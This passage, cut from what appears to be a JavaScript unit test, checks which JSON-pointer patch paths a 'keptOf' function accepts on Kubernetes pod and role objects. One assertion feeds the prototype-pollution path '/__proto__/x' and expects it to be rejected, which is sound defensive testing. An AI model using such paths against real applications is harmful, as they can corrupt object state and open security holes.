    expect(keptOf(pod, '/metadata/labels/a~1b', 'x')).toBe('x');
    expect(keptOf(pod, '/metadata/annotations/a~1b', 'x')).toBe(secret);
    expect(keptOf(pod, '/__proto__/x', 'x')).toBe(secret);
    expect(keptOf(pod, 'metadata/labels', 'x')).toBe(secret);
    expect(keptOf(role, '', { rules: [], secret: 'x' })).toEqual({ rules: [], secret });
  });
});
